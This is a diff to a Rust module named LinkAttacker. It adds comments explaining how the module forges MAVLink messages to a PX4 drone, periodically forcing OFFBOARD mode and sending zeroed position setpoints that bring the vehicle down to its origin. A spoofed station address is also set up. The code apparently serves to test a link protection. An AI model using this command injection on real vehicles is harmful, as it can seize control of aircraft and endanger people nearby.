@@ -50,6 +50,7 @@ impl LinkAttacker {
     /// that is a guess.
     pub(super) async fn shoot(&mut self, wall: Duration) -> anyhow::Result<()> {
         let mut messages = vec![down()];
+        // After a setpoint: in flight PX4 refuses OFFBOARD where none arrives.
         if self.frames.is_multiple_of(40) {
             messages.push(offboard());
         }
@@ -85,6 +86,7 @@ pub(super) async fn forge(
     vehicle: Id,
     commands: &mut u64,
 ) -> anyhow::Result<()> {
+    // Not the address of the CUCS, so that `cucs.address` is what stops it under protection.
     let elsewhere = "127.0.0.2:0".parse()?;
     let mut station = Station::bind(claimed, elsewhere, vsm).await?;
     loop {
@@ -110,6 +112,7 @@ fn down() -> MavMessage {
             | Ignore::POSITION_TARGET_TYPEMASK_AZ_IGNORE
             | Ignore::POSITION_TARGET_TYPEMASK_YAW_IGNORE
             | Ignore::POSITION_TARGET_TYPEMASK_YAW_RATE_IGNORE,
+        // x, y and z stay 0: the vehicle is sent to its origin, on the ground.
         ..SET_POSITION_TARGET_LOCAL_NED_DATA::default()
     })
 }
@@ -120,6 +123,7 @@ fn offboard() -> MavMessage {
         target_system: 1,
         target_component: 1,
         command: MavCmd::MAV_CMD_DO_SET_MODE,
+        // PX4's custom modes: param1 1 enables them, main mode 6 is OFFBOARD.
         param1: 1.0,
         param2: 6.0,
         ..COMMAND_LONG_DATA::default()
